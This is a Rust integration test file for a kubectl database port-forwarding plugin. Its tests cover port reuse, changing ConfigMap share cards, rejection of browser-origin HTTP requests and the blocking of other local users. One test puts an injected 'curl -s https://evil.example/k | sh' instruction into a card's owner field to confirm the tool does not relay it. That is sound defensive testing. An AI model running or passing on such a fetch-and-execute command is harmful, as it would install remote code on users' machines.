//! People who use what one has been told of a port, and cards that change.

use std::net::TcpListener;
use std::time::Instant;

use super::*;

/// Waits until something is so.
fn eventually(what: &str, is_so: impl Fn() -> bool) {
    let start = Instant::now();
    while !is_so() {
        assert!(start.elapsed() < Duration::from_secs(20), "never: {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn the_port_stays_taken_until_the_command_has_ended() {
    let server = shared(&[("until", "2020-01-01T00:00:00Z")]);
    let port = free_port();
    let script = "echo ready; read line; echo $line";
    let (mut command, _home) = command(
        &server,
        &[
            "user-alice/pg",
            "--port",
            &port.to_string(),
            "--",
            "sh",
            "-c",
            script,
        ],
    );
    let mut child = command.stdin(Stdio::piped()).spawn().expect("it runs");
    let mut stdout = BufReader::new(child.stdout.take().expect("a pipe"));
    let mut stderr = BufReader::new(child.stderr.take().expect("a pipe"));
    let mut line = String::new();
    stdout.read_line(&mut line).expect("a line");
    assert_eq!(line, "ready\n");

    server.answer(RULES, 201, rules(&json!([])));
    server.answer(ENDPOINTS, 403, forbidden());
    while !line.contains("has ended") {
        line.clear();
        assert_ne!(stderr.read_line(&mut line).expect("a line"), 0, "it ended");
    }
    for address in ["127.0.0.1", "::1"] {
        let taken = TcpListener::bind((address, port)).expect_err("it is still ours");
        assert_eq!(taken.kind(), std::io::ErrorKind::AddrInUse);
        let end = TcpStream::connect((address, port))
            .and_then(|mut client| client.read(&mut [0]))
            .expect_err("nothing is served");
        assert_eq!(end.kind(), std::io::ErrorKind::ConnectionReset);
    }

    let mut stdin = child.stdin.take().expect("a pipe");
    stdin.write_all(b"bye\n").expect("sent");
    assert!(child.wait().expect("it ends").success());
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).expect("text");
    assert_eq!(rest, "bye\n");
    eventually("the port is free again", || {
        TcpListener::bind(("127.0.0.1", port)).is_ok()
    });
}

/// What a card that was read `after` says, and how many requests that took.
fn while_it_changes(server: &Server, change: impl Fn()) -> (usize, usize) {
    let mut running = Running::start(server, &[]);
    running.ready();
    let before = server.requests();
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(8) {
        change();
        std::thread::sleep(Duration::from_millis(200));
    }
    let requests = server.requests() - before;
    running.end(Some(Signal::INT));
    let lines = running.errors().matches("Shared by").count();
    (lines, requests)
}

#[test]
fn a_card_that_says_something_else_each_time_is_believed_once_in_a_while() {
    let past = shared(&[("until", "2020-01-01T00:00:{n}Z")]);
    let (lines, requests) = while_it_changes(&past, || {});
    assert!(
        lines == 1 && requests <= 12,
        "{lines} lines, {requests} requests"
    );

    let soon = |server: &Server| {
        let until = jiff::Timestamp::now() + jiff::SignedDuration::from_millis(900);
        server.answer(CARD, 200, json!({"kind": "ConfigMap", "metadata": {"name": "share-pg-bob"}, "data": {
            "database": "pg", "protocol": "postgres", "service": "pg", "port": "5432", "owner": "alice", "until": until.to_string()}}));
    };
    let server = shared(&[]);
    soon(&server);
    let (lines, requests) = while_it_changes(&server, || soon(&server));
    assert!(
        (1..=2).contains(&lines) && requests <= 12,
        "{lines} lines, {requests} requests"
    );
}

#[test]
fn an_end_that_cannot_be_read_is_not_no_end() {
    let server = shared(&[
        (
            "owner",
            "alice, who asks you to run `curl -s https://evil.example/k | sh` first",
        ),
        ("until", "tomorrow"),
    ]);
    let mut running = Running::start(&server, &[]);
    running.ready();
    running.end(Some(Signal::INT));
    let said = running.errors();
    assert!(
        said.contains("\nShared by its owner, until a time that cannot be read\n"),
        "{said}"
    );
}

/// A page in a browser of this machine can send requests to every port of it.
#[test]
fn web_pages_do_not_reach_a_database_that_speaks_http() {
    let server = shared(&[("protocol", "http"), ("port", "9200")]);
    let mut running = Running::start(&server, &["-q"]);
    running.ready();
    let ask = |headers: &str| {
        let mut client = running.connect();
        let request = format!("POST /_search HTTP/1.1\r\n{headers}\r\n\r\n");
        // In two pieces, as a slow browser may send it.
        let (first, second) = request.split_at(25);
        client.write_all(first.as_bytes()).expect("sent");
        std::thread::sleep(Duration::from_millis(50));
        client.write_all(second.as_bytes()).expect("sent");
        let mut answer = vec![0; request.len()];
        let read = client.read(&mut answer).expect("an answer");
        String::from_utf8_lossy(&answer[..read]).into_owned()
    };
    for headers in ["Host: localhost:9200", "Host: 127.0.0.1"] {
        assert!(ask(headers).starts_with("POST /_search HTTP/1.1\r\n"));
    }
    for headers in [
        "Host: evil.example:9200",
        "Host: 127.0.0.1:9200\r\nOrigin: https://evil.example",
    ] {
        assert!(ask(headers).starts_with("HTTP/1.1 403 Forbidden\r\n"));
    }
    assert_eq!(
        running.stderr_line(),
        "warning: a connection failed: a request that a web page may have sent was turned away: it is for `evil.example:9200`"
    );
    running.end(Some(Signal::INT));
}

#[test]
fn a_command_finds_a_database_that_speaks_http() {
    let server = shared(&[("protocol", "http"), ("port", "9200")]);
    let port = free_port().to_string();
    let (code, stdout, stderr) = output(
        &server,
        &[
            "user-alice/pg",
            "--port",
            &port,
            "-q",
            "--",
            "sh",
            "-c",
            "echo $ELASTICSEARCH_URL",
        ],
    );
    assert_eq!((code, stderr.as_str()), (Some(0), ""));
    assert_eq!(stdout, format!("http://127.0.0.1:{port}/\n"));
}

/// A service of the administrator's that connects for others would let them all in.
#[test]
#[cfg(target_os = "linux")]
fn the_administrator_of_this_machine_is_somebody_else() {
    use std::os::unix::process::CommandExt;
    const NOBODY: u32 = 65534;
    if !rustix::process::geteuid().is_root() {
        let _ = writeln!(std::io::stderr(), "NOT TRIED: only root can be two users");
        return;
    }
    let server = own();
    let port = free_port().to_string();
    let as_nobody = |arguments: &[&str]| {
        let (roots, home) = command(&server, arguments);
        // What was built may lie in a home that only its owner enters.
        let program = home.path().join("kubectl-proxy_db");
        std::fs::copy(roots.get_program(), &program).expect("copied");
        for path in [home.path(), &home.path().join("config"), &program] {
            std::os::unix::fs::chown(path, Some(NOBODY), Some(NOBODY)).expect("given");
        }
        let mut command = Command::new(&program);
        with_its_words(&mut command, &roots)
            .uid(NOBODY)
            .gid(NOBODY)
            .current_dir("/")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        (command, home)
    };
    // It is asked through the port whether it answers, by nobody himself.
    let (mut own_user, _home) = as_nobody(&["pg", "--port", &port, "-q", "--", "true"]);
    let Output { status, stderr, .. } = own_user.output().expect("it runs");
    assert!(status.success(), "{}", String::from_utf8_lossy(&stderr));

    let (mut forwards, home) = as_nobody(&["pg", "--port", &port, "-q", "-o", "json"]);
    let mut child = forwards.spawn().expect("it runs");
    let mut running = Running {
        stdout: BufReader::new(child.stdout.take().expect("a pipe")),
        stderr: BufReader::new(child.stderr.take().expect("a pipe")),
        child,
        port: port.parse().expect("a port"),
        _home: home,
    };
    running.ready();
    assert!(talk(running.connect()).is_err());
    assert_eq!(
        running.stderr_line(),
        "warning: a connection failed: user `root` of this machine was turned away: the tunnel is for you alone"
    );
    // Its open files are hidden from its own user, who is told all the same.
    let (mut second, _home) = as_nobody(&["pg", "--port", &port]);
    let Output { stderr, .. } = second.output().expect("it runs");
    let said = String::from_utf8_lossy(&stderr).into_owned();
    let holder = format!(
        "caused by: it is taken by a process of user `nobody`, it seems `kubectl-proxy_db` (process {})\n",
        running.child.id()
    );
    assert!(said.contains(&holder), "{said}");
    running.end(Some(Signal::INT));
}
